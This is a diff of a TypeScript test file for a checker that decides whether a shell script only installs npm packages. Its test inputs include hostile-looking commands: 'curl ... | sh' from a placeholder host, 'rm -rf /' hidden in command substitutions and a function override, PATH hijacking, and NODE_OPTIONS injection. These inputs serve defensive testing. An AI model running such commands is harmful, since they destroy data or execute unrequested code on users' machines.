@@ -131,14 +131,33 @@ describe('installs in a shell script', () => {
   for (const [script, reason] of doubtful)
     it(`does not claim to understand ${JSON.stringify(script)}`, () => expect(seen(script).join('\n')).toMatch(reason));
 
-  it('knows whether a script does nothing but install', () => {
-    const only = (script: string): boolean => launchesIn(script, '/', '/').isInstallOnly;
-    expect([
-      only('cd app && npm ci'),
-      only('npm ci && npm test'),
-      only('npm i x; curl https://elsewhere.example/ | sh'),
-      only('ls'),
-    ]).toEqual([true, false, false, false]);
+  it.each(['npm ci', 'cd app && npm ci', 'npm install -D left-pad && pnpm add x --save-exact', 'yarn --frozen-lockfile 2>/dev/null'])(
+    'sees that %s does nothing but install',
+    (script) => {
+      expect(launchesIn(script, '/', '/').isInstallOnly).toBe(true);
+    },
+  );
+  it.each([
+    'ls',
+    'npm ci && npm test',
+    'npm i x; curl https://elsewhere.example/',
+    'npm i x > ~/.profile',
+    'sudo npm i x',
+    './npm i x',
+    '/tmp/npm i x',
+    'NODE_OPTIONS=--require=./x.js npm i x',
+    'npm i x --script-shell=./x.sh',
+    'npm i x --node-options=--require=./x.js',
+    'npx rimraf /',
+    'npm i -g x',
+    'echo $(rm -rf /) && npm i x',
+    'PATH=/tmp npm i x',
+    'PATH=/tmp; npm i x',
+    'npm() { rm -rf /; }; npm i x',
+    'cd $(rm -rf /) && npm i x',
+    'yes | npm i x',
+  ])('sees that %s does more than install', (script) => {
+    expect(launchesIn(script, '/', '/').isInstallOnly).toBe(false);
   });
 
   it('reads hostile scripts in linear time', () => {
